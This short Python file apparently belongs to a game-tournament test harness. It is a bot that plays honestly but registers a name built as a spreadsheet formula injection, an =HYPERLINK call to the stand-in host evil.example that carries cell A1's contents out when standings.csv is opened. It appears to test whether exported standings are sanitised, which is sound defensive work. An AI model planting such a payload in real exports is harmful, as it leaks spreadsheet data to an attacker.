"""Plays honestly under a hello name that a spreadsheet opening standings.csv would run as a formula."""

import _base

_base.run(name='=HYPERLINK("http://evil.example/?"&A1,"click")')
